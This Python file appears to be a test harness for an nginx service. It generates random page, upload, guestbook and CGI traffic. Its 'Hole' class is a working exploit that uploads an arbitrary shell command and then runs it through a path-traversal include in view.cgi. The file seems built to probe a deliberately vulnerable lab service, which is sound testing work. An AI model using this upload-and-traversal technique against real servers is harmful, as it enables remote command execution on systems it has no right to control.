# SPDX-License-Identifier: Apache-2.0
"""nginx: pages, missing pages, uploads, the guestbook and the pages made by a script. The script includes what it is told."""
import random

import pace
from web import Web

PORT = 80


class user:
    def __init__(self, host):
        self.web = Web(host, PORT)
        self.close = self.web.connection.close

    def __call__(self):
        choice, n = random.random(), random.randint(1, 50)
        if choice < 0.5:
            self.web.ask("GET", f"/page{n}.html", headers={"accept-encoding": "gzip"} if n % 3 == 0 else {})
        elif choice < 0.55:
            self.web.ask("GET", f"/missing{n}.html")
        elif choice < 0.7:
            self.web.ask("PUT", f"/upload/file{n}", pace.words(n * n))
        elif choice < 0.8:
            self.web.ask("GET", f"/upload/file{n}")
        elif choice < 0.83:
            self.web.ask("DELETE", f"/upload/file{n}")
        elif choice < 0.9:
            self.web.ask("GET", "/cgi/view.cgi?page=" + random.choice(("news", "about", "help")))
        elif choice < 0.95:
            self.web.ask("GET", "/cgi/guestbook.cgi")
        else:
            self.web.ask("POST", "/cgi/guestbook.cgi", pace.words(6))


def once(host):
    return Web(host, PORT, 5).ask("GET", "/page1.html")


class Hole:
    """A file that anybody may upload is a script when it is included as a page."""

    def __init__(self, host):
        self.host = host

    def run(self, command, name="avatar"):
        Web(self.host, PORT).ask("PUT", f"/upload/{name}", "{ " + command + "\n} 2>&1\n")
        return Web(self.host, PORT).ask("GET", f"/cgi/view.cgi?page=../../upload/{name}").decode(errors="replace")
